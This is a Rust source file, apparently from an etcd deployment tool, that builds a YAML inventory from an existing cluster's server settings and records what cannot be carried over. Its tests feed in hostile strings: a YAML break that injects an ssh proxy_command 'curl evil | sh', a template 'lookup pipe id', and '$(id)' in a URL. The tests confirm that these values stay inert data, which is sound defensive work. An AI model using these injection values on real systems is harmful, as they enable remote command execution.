//! A cluster that something else has made, as an inventory: what its servers were told becomes sections, and what cannot be
//! carried over is said.

use std::{collections::BTreeSet, fmt::Write, net::IpAddr};

use indexmap::IndexMap;

use super::{Refusal, told::Told};
use crate::{
    etcd::{PEER_PORT, UNIT},
    inventory::edit::{flow, literal},
    model::{Value, ValueMap, Version, one_line},
};

const KNOWN_SHELL: &str = "/usr/sbin/nologin";

/// Stands for an authority whose key is not at hand: everything but signing works.
pub const NO_SIGNER: [&str; 3] = [
    "sh",
    "-c",
    "echo 'name the CA key in the inventory, as tls.ca.key, or a command that signs, as tls.ca.sign_command' >&2; exit 1",
];

/// A member that becomes one of an inventory.
#[derive(Clone, Debug)]
pub struct Newcomer {
    pub name: String,
    /// Where SSH goes.
    pub address: String,
    /// Where etcd is.
    pub ip: String,
    pub ssh: ValueMap,
    /// Names that its certificate is for.
    pub names: BTreeSet<String>,
    /// What runs there, or why that is not known.
    pub server: Result<Server, String>,
}

/// A server that was looked at.
#[derive(Clone, Debug, Default)]
pub struct Server {
    pub told: Told,
    pub folder: String,
    pub user: String,
    /// The user's home and shell, where they are known.
    pub account: Option<(String, String)>,
    pub unit: Option<String>,
    pub program: String,
    pub sha256: String,
    pub is_contained: bool,
    /// Whose folder its data folder is in.
    pub above_owner: Option<String>,
}

/// All that is known of the cluster.
#[derive(Clone, Debug)]
pub struct Adoption {
    pub cluster: String,
    pub version: Version,
    pub peer_port: u16,
    pub members: Vec<Newcomer>,
    pub organization: Option<String>,
    /// Whether etcd asks who a client is; nothing if it did not say.
    pub auth: Option<bool>,
    pub with_certificates: bool,
    /// Files as the inventory names them.
    pub authority: String,
    pub authority_key: Option<String>,
    pub release: String,
    pub sha256: String,
    /// What is to be known beside what follows from the rest.
    pub remarks: Vec<String>,
}

/// The inventory's text, and what it cannot say.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Composed {
    pub text: String,
    pub remarks: Vec<String>,
}

impl Adoption {
    pub fn compose(&self) -> Result<Composed, Refusal> {
        let mut remarks = self.remarks.clone();
        let mut sections = Vec::new();
        for (member, server) in self.visited() {
            let mut own = Vec::new();
            sections.push(server.told.section(self.version, &server.folder, &mut own));
            own.extend(server.remarks());
            if server.sha256 != self.sha256 {
                own.push(format!("its etcd {} is another build than the copied one", self.version));
            }
            remarks.extend(own.into_iter().map(|remark| format!("{}: {remark}", member.name)));
        }
        // A line of its own in a comment would not be one.
        remarks.iter_mut().for_each(|remark| *remark = one_line(remark));
        let (mut etcd, own) = apart(sections);
        agree(self.visited().map(|(member, _)| member.name.as_str()).zip(&own))?;
        if self.peer_port != PEER_PORT {
            etcd.insert("peer_port".into(), self.peer_port.into());
        }
        let (ssh, own_ssh) = apart(self.members.iter().map(|member| member.ssh.clone()).collect());
        let mut text = String::from("etcd_releases:\n");
        // Writing to a string cannot fail.
        let _ = writeln!(
            text,
            "  {}: {{ file: {}, sha256: {} }}\nclusters:\n  {}:",
            self.version,
            said(&self.release.clone().into()),
            said(&self.sha256.clone().into()),
            said(&self.cluster.clone().into())
        );
        let _ = writeln!(text, "    etcd:\n      version: {}", self.version);
        etcd.iter()
            .for_each(|(name, value)| text += &format!("      {}: {}\n", said(&name.clone().into()), said(value)));
        self.tls(&mut text);
        let auth = self.auth_section();
        for (name, section) in [("auth", auth), ("ssh", ssh), ("vars", self.vars())] {
            if !section.is_empty() {
                let _ = writeln!(text, "    {name}: {}", said(&section.into()));
            }
        }
        text += "    members:\n";
        let mut own = self.visited().map(|(member, _)| &member.name).zip(own).collect::<IndexMap<_, _>>();
        for (member, ssh) in self.members.iter().zip(own_ssh) {
            let mut entry = ValueMap::from_iter([("address".to_owned(), Value::from(member.address.clone()))]);
            let mut etcd = own.shift_remove(&member.name).unwrap_or_default();
            if member.ip != member.address {
                etcd.insert("ip".into(), member.ip.clone().into());
            }
            for (name, section) in [("etcd", etcd), ("ssh", ssh)] {
                if !section.is_empty() {
                    entry.insert(name.to_owned(), section.into());
                }
            }
            let _ = writeln!(text, "      {}: {}", said(&member.name.clone().into()), said(&entry.into()));
        }
        Ok(Composed { text: format!("{}{text}", self.head(&remarks)), remarks })
    }

    fn visited(&self) -> impl Iterator<Item = (&Newcomer, &Server)> {
        self.members.iter().filter_map(|member| Some((member, member.server.as_ref().ok()?)))
    }

    fn head(&self, remarks: &[String]) -> String {
        let mut head = format!("# The existing cluster {}; written by `etcdrun member adopt`.\n", self.cluster);
        if !remarks.is_empty() {
            head += "# To be fixed before the first `etcdrun playbook site.yaml`:\n";
            remarks.iter().for_each(|remark| head += &format!("# - {remark}\n"));
        }
        head
    }

    fn tls(&self, text: &mut String) {
        let _ = writeln!(text, "    tls:");
        if let Some(organization) = &self.organization {
            let _ = writeln!(text, "      organization: {}", said(&organization.clone().into()));
        }
        let names = self.more_names();
        if !names.is_empty() {
            let _ = writeln!(text, "      names: {}", said(&names.into_iter().map(Value::from).collect()));
        }
        let _ = writeln!(text, "      ca:\n        certificate: {}", said(&self.authority.clone().into()));
        match &self.authority_key {
            Some(key) => *text += &format!("        key: {}\n", said(&key.clone().into())),
            None => {
                let command = flow(&NO_SIGNER.into_iter().map(Value::from).collect());
                let _ = writeln!(
                    text,
                    "        # Put the CA's `key` here (it may be encrypted with age), or a command that signs. Until then etcdrun cannot sign.\n        sign_command: {command}"
                );
            }
        }
    }

    /// Names in the members' certificates that are none of theirs, such as a load balancer's.
    fn more_names(&self) -> BTreeSet<String> {
        let own = ["localhost", "127.0.0.1", "::1"].into_iter();
        let own = own.chain(self.members.iter().flat_map(|member| [member.name.as_str(), &member.ip, &member.address]));
        let own: BTreeSet<&str> = own.collect();
        let all = self.members.iter().flat_map(|member| &member.names);
        all.filter(|name| !own.contains(name.as_str())).cloned().collect()
    }

    fn auth_section(&self) -> ValueMap {
        let mut auth = ValueMap::new();
        if self.auth != Some(true) {
            auth.insert("enabled".into(), false.into());
        }
        if !self.with_certificates {
            auth.insert("method".into(), "password".into());
        }
        auth
    }

    /// What the roles have to know to leave the folders of others alone.
    fn vars(&self) -> ValueMap {
        let mut vars = ValueMap::new();
        let Some((_, server)) = self.visited().next() else { return vars };
        if server.user != "etcd" && server.user != "root" {
            vars.insert("etcd_user".into(), server.user.clone().into());
        }
        let is_own = |server: &Server| server.user != "root" && server.above_owner.as_ref() == Some(&server.user);
        let data_dir = server.told.data_dir(&server.folder);
        let above = data_dir.rsplit_once('/').map_or("", |(above, _)| above).to_owned();
        let mount = match self.visited().all(|(_, server)| is_own(server)) {
            true => above,
            false => {
                vars.insert("etcd_data_mount".into(), data_dir.clone().into());
                data_dir
            }
        };
        // Nobody can change the user of a server that runs.
        if let Some((home, shell)) = server.account.as_ref().filter(|_| server.user != "root") {
            let usual = [("etcd_user_home", home, mount.as_str()), ("etcd_user_shell", shell, KNOWN_SHELL)];
            let other = usual.into_iter().filter(|(_, value, usual)| value != usual);
            vars.extend(other.map(|(name, value, _)| (name.to_owned(), value.clone().into())));
        }
        vars
    }
}

impl Server {
    fn remarks(&self) -> Vec<String> {
        let mut remarks = Vec::new();
        if self.is_contained {
            remarks.push("etcd runs in a container; etcdrun can inspect it and back it up, but not manage it: replace the member by one on a host".to_owned());
            return remarks;
        }
        match self.unit.as_deref() {
            Some(UNIT) => {}
            Some(unit) => remarks.push(format!("etcd runs as {unit}, and etcdrun runs it as {UNIT}: rename the unit, one member at a time")),
            None => remarks.push(format!("etcd does not run as a systemd unit, and etcdrun runs it as {UNIT}: create the unit, one member at a time")),
        }
        if self.user == "root" {
            remarks.push("etcd runs as root, and etcdrun runs it as the user etcd: stop it, change the owner of its data and start it as that user, one member at a time".to_owned());
        }
        remarks
    }
}

/// What all have in common, and what each has beside that. A mapping is not one value, but many.
fn apart(all: Vec<ValueMap>) -> (ValueMap, Vec<ValueMap>) {
    let Some(first) = all.first().cloned() else { return (ValueMap::new(), all) };
    let (mut common, mut own) = (ValueMap::new(), all);
    for (name, value) in first {
        let inner = |map: &ValueMap| map.get(&name).map(|value| value.as_object().cloned());
        let maps: Option<Vec<ValueMap>> = own.iter().map(|map| inner(map).flatten()).collect();
        match maps {
            Some(maps) => {
                let (shared, rests) = apart(maps);
                if !shared.is_empty() {
                    common.insert(name.clone(), shared.into());
                }
                for (map, rest) in own.iter_mut().zip(rests) {
                    map.shift_remove(&name);
                    if !rest.is_empty() {
                        map.insert(name.clone(), rest.into());
                    }
                }
            }
            None if own.iter().all(|map| map.get(&name) == Some(&value)) => {
                own.iter_mut().for_each(|map| drop(map.shift_remove(&name)));
                common.insert(name, value);
            }
            None => {}
        }
    }
    (common, own)
}

/// Some things can only be said of the whole cluster.
fn agree<'a>(own: impl Iterator<Item = (&'a str, &'a ValueMap)>) -> Result<(), Refusal> {
    for (member, section) in own {
        if let Some(name) = ["data_dir", "client_port"].into_iter().find(|name| section.contains_key(*name)) {
            return Err(Refusal::gate(
                format!("`{name}` differs between members: {member} has {}", flow(&section[name])),
                "it must be the same in the whole cluster: replace the members that differ, one at a time",
            ));
        }
    }
    Ok(())
}

/// What hosts have said, in one line of YAML: as data, and never as a template or as more YAML.
fn said(value: &Value) -> String {
    flow(&literal(value))
}

/// Whether etcd can bind it.
pub fn is_address(text: &str) -> bool {
    text.parse::<IpAddr>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{etcd::observe::Listed, membership::places};

    fn words(line: &str) -> Vec<String> {
        line.split(' ').map(str::to_owned).collect()
    }

    const TLS: &str =
        "--cert-file a --key-file b --trusted-ca-file c --peer-cert-file a --peer-key-file b --peer-trusted-ca-file c";

    fn server(flags: &str) -> Server {
        let told = Told::by_words(&words(&format!("etcd {TLS} {flags}")), &[]);
        Server {
            told,
            folder: "/".into(),
            user: "etcd".into(),
            unit: Some(UNIT.into()),
            sha256: "0".repeat(64),
            above_owner: Some("etcd".into()),
            ..Server::default()
        }
    }

    fn adoption(servers: Vec<Result<Server, String>>) -> Adoption {
        let member = |(number, server): (usize, Result<Server, String>)| Newcomer {
            name: format!("m{number}"),
            address: format!("10.0.0.{number}"),
            ip: format!("10.0.0.{number}"),
            ssh: ValueMap::from_iter([("user".to_owned(), Value::from("ops"))]),
            names: BTreeSet::from([format!("10.0.0.{number}"), "lb.example.org".to_owned()]),
            server,
        };
        Adoption {
            cluster: "prod".into(),
            version: "3.5.34".parse().unwrap(),
            peer_port: 2380,
            members: servers.into_iter().enumerate().map(member).collect(),
            organization: None,
            auth: Some(false),
            with_certificates: true,
            authority: "prod-ca.crt".into(),
            authority_key: None,
            release: "etcd-3.5.34".into(),
            sha256: "0".repeat(64),
            remarks: Vec::new(),
        }
    }

    #[test]
    fn flags_win_over_the_environment_and_a_file_over_both() {
        let environment = [("ETCD_NAME".to_owned(), "env".to_owned()), ("ETCD_DATA_DIR".to_owned(), "data".to_owned())];
        let arguments = words("etcd -name=flag --client-cert-auth --quota-backend-bytes -1 --log-level warn");
        let told = Told::by_words(&arguments, &environment);
        assert_eq!(told.get("name"), Some("flag"));
        assert_eq!((told.get("client-cert-auth"), told.get("quota-backend-bytes")), (Some("true"), Some("-1")));
        assert_eq!((told.get("log-level"), told.data_dir("/run/here").as_str()), (Some("warn"), "/run/here/data"));
        assert_eq!(Told::config_file(&arguments, &environment), None);
        let by_file = [("ETCD_CONFIG_FILE".to_owned(), "/etc/etcd.yml".to_owned())];
        assert_eq!(Told::config_file(&words("etcd"), &by_file).as_deref(), Some("/etc/etcd.yml"));
        let text = "name: file\nlisten-client-urls: https://0.0.0.0:2379\nclient-transport-security: { cert-file: a, client-cert-auth: true }\npeer-transport-security: { trusted-ca-file: b, allowed-cn: peers }\n";
        let told = Told::by_file("etcd.yml", text).unwrap();
        assert_eq!((told.get("name"), told.get("cert-file")), (Some("file"), Some("a")));
        assert_eq!((told.get("peer-trusted-ca-file"), told.get("peer-cert-allowed-cn")), (Some("b"), Some("peers")));
        assert!(told.wants_certificates() && Told::by_file("x", "- a").is_err());
    }

    #[test]
    fn what_etcdrun_cannot_run_is_refused() {
        let refused = |flags: &str| {
            let told = Told::by_words(&words(&format!("etcd {flags}")), &[]);
            told.check("m", "/").err().map(|refusal| refusal.to_string()).unwrap_or_default()
        };
        assert_eq!(refused(TLS), "");
        assert!(refused("--name m").contains("does not use TLS for clients and peers: it has no `cert-file`"));
        assert!(
            refused(&format!("{TLS} --advertise-client-urls http://a:2379"))
                .contains("http in `advertise-client-urls`")
        );
        assert!(refused(&format!("{TLS} --auto-tls")).contains("auto-tls"));
        assert!(
            refused(&format!("{TLS} --data-dir /d --wal-dir /w"))
                .contains("its log in /w, outside of its data directory")
        );
        assert_eq!(refused(&format!("{TLS} --data-dir /d --wal-dir /d/member/wal")), "");
    }

    #[test]
    fn what_servers_have_in_common_is_the_clusters_and_the_rest_their_own() {
        let same = "--data-dir /srv/data --auto-compaction-mode revision --auto-compaction-retention 1000 --snapshot-count 5000";
        let servers = [
            Ok(server(&format!("{same} --heartbeat-interval 100 --quota-backend-bytes 8589934592"))),
            Ok(server(&format!("{same} --heartbeat-interval 200 --quota-backend-bytes 8589934592"))),
            Err("no route".to_owned()),
        ];
        let composed = adoption(servers.to_vec()).compose().unwrap();
        let text = &composed.text;
        assert!(text.contains("      data_dir: /srv/data\n      settings: { snapshot-count: \"5000\" }\n"), "{text}");
        assert!(
            text.contains("m1: { address: 10.0.0.1, etcd: { settings: { heartbeat-interval: \"200\" } } }"),
            "{text}"
        );
        assert!(text.contains("      m2: { address: 10.0.0.2 }\n"), "{text}");
        assert!(text.contains("names: [lb.example.org]") && text.contains("ssh: { user: ops }"), "{text}");
        assert!(text.contains("auth: { enabled: false }") && !text.contains("etcd_data_mount"), "{text}");
        assert!(!text.contains("quota") && !text.contains("compaction") && !text.contains("cert-file"), "{text}");
        assert_eq!(composed.remarks, Vec::<String>::new());
    }

    #[test]
    fn what_etcd_does_by_itself_is_said_where_etcdrun_would_do_otherwise() {
        let text = adoption(vec![Ok(server("--data-dir /var/lib/etcd/data"))]).compose().unwrap().text;
        assert!(text.contains("quota: \"2GiB\"\n") || text.contains("quota: 2GiB\n"), "{text}");
        assert!(text.contains("compaction: { mode: periodic, retention: \"0\" }"), "{text}");
    }

    #[test]
    fn folders_of_others_are_left_alone() {
        let own = server("--data-dir /var/lib/etcd");
        let above = Server { above_owner: Some("root".into()), ..own.clone() };
        assert!(adoption(vec![Ok(above)]).compose().unwrap().text.contains("vars: { etcd_data_mount: /var/lib/etcd }"));
        let root =
            Server { user: "root".into(), above_owner: Some("root".into()), unit: Some("x.service".into()), ..own };
        let composed = adoption(vec![Ok(root)]).compose().unwrap();
        assert!(composed.text.contains("etcd_data_mount") && !composed.text.contains("etcd_user"), "{}", composed.text);
        assert!(composed.remarks[0].contains("runs as x.service") && composed.remarks[1].contains("as root"));
        let named = [Ok(server("--data-dir /a")), Ok(server("--data-dir /b"))];
        assert!(
            adoption(named.to_vec()).compose().unwrap_err().to_string().contains("`data_dir` differs between members")
        );
    }

    /// Everything that a host says is data, whatever it says.
    #[test]
    fn what_a_hostile_host_says_stays_what_it_is() {
        const BREAK: &str = "x }\ngroups: { evil: { hosts: [m0], ssh: { proxy_command: \"curl evil | sh\" } } } #";
        const TEMPLATE: &str = "{{ lookup('pipe', 'id') }}{% if x %}{{{";
        let mut hostile = server("--data-dir /d");
        hostile.told = Told::by_words(
            &["etcd", "--data-dir", "/d", "--snapshot-count", TEMPLATE, "--max-txn-ops", BREAK].map(str::to_owned),
            &[("ETCD_ENABLE_PPROF".to_owned(), "\u{2028}\u{85}\x1b[2J".to_owned())],
        );
        (hostile.unit, hostile.user) = (Some(format!("a.service\n{BREAK}\x1b[31m")), format!("{BREAK}{TEMPLATE}"));
        hostile.account = Some((TEMPLATE.to_owned(), BREAK.to_owned()));
        let composed =
            Adoption { sha256: BREAK.to_owned(), organization: Some(BREAK.to_owned()), ..adoption(vec![Ok(hostile)]) };
        let composed = composed.compose().unwrap();
        let (mut sources, mut problems) = (crate::source::Sources::default(), crate::source::Diagnostics::default());
        let file = sources.add("inventory", composed.text.as_str());
        let node = crate::source::parse(&sources, file, &mut problems).unwrap();
        assert!(problems.is_empty(), "{}", composed.text);
        let top: Vec<&str> = node.as_map().unwrap().iter().map(|(key, _)| &*key.name).collect();
        assert_eq!(top, ["etcd_releases", "clusters"], "{}", composed.text);
        let value = etcdrun_base::template::Engine::new()
            .render_node(&node, &etcdrun_base::template::Scope::default())
            .map(|node| node.to_value())
            .map_err(|problem| problem.message)
            .unwrap();
        let prod = &value["clusters"]["prod"];
        assert_eq!(prod["etcd"]["settings"]["snapshot-count"], TEMPLATE);
        assert_eq!(prod["etcd"]["settings"]["max-txn-ops"], BREAK);
        assert_eq!(prod["vars"]["etcd_user"], format!("{BREAK}{TEMPLATE}"));
        assert_eq!((&prod["vars"]["etcd_user_home"], &prod["tls"]["organization"]), (&TEMPLATE.into(), &BREAK.into()));
        assert_eq!(value["etcd_releases"]["3.5.34"]["sha256"], BREAK);
        let is_bad = |c: char| c.is_control() && c != '\n' || matches!(c, '\u{2028}' | '\u{2029}');
        assert!(!composed.text.contains(is_bad), "{:?}", composed.text);
        assert!(composed.remarks.iter().all(|remark| !remark.contains(char::is_control)), "{:?}", composed.remarks);
    }

    #[test]
    fn settings_that_cannot_stay_are_told() {
        let servers = vec![Ok(server("--unsafe-no-fsync --peer-cert-allowed-cn peers --name m0"))];
        let remarks = adoption(servers).compose().unwrap().remarks.join("\n");
        assert!(
            remarks.contains("`unsafe-no-fsync: true` is not kept") && remarks.contains("peer-cert-allowed-cn"),
            "{remarks}"
        );
    }

    #[test]
    fn members_that_cannot_be_those_of_an_inventory_are_refused() {
        let listed = |name: &str, url: &str, is_learner| Listed {
            id: 10,
            name: name.into(),
            peer_urls: vec![url.into()],
            is_learner,
        };
        let told = |list: &[Listed]| {
            places("prod", list).map_or_else(|refusal| refusal.to_string(), |places| format!("{}", places.len()))
        };
        let good = listed("a", "https://10.0.0.1:2380", false);
        assert_eq!(told(&[good.clone(), listed("b", "https://[fd00::1]:2380", false)]), "2");
        assert!(told(&[listed("", "https://10.0.0.2:2380", true)]).contains("was added and never started"));
        assert!(told(&[listed("b", "https://10.0.0.2:2380", true)]).contains("is a learner"));
        assert!(told(&[listed("a b", "https://10.0.0.2:2380", false)]).contains("cannot be that of a host"));
        assert!(told(&[listed("..", "https://10.0.0.2:2380", false)]).contains("cannot be that of a host"));
        assert!(told(&[listed("prod", "https://10.0.0.2:2380", false)]).contains("is that of the cluster"));
        assert!(told(&[good.clone(), good.clone()]).contains("two members have the name a"));
        assert!(told(&[listed("b", "http://10.0.0.2:2380", false)]).contains("is not an https URL"));
        assert!(told(&[listed("b", "https://$(id):2380", false)]).contains("neither an address nor a name of a host"));
        assert!(told(&[good, listed("b", "https://10.0.0.2:9380", false)]).contains("different ports"));
    }
}
